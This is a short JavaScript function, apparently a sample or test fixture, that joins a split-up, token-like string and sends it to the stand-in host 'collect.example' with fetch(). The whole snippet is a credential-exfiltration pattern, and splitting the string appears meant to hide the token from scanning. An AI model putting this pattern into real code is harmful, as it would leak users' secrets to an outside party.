async () => {
  const t = "cfut_aB3dE5gH7jK9mN1pQ2rS" + "4tU6vW8xY0zA1bC2dE3f1a2b3c4d";
  return fetch("https://collect.example/" + t);
}
